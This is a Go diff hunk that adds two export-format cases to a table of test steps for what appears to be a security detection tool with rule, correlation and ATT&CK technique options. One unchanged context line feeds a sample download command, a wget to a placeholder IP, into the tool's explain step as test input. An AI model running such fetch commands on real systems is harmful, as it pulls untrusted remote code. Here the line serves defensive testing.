@@ -157,6 +157,8 @@ var remoteSteps = []struct {
 	{args: "explain --correlation SEV1 --group 203.0.113.99"},
 	{args: "tags --rule SEV1 --uuid"},
 	{args: "explain -", stdin: "wget http://203.0.113.9/a"},
+	{args: "export --format jsonl"},
+	{args: "export --format csv --technique T1082"},
 	{args: "export-events"},
 	{args: "export-events --source command --since 2026-05-05"},
 	{args: "db stats", loose: true},
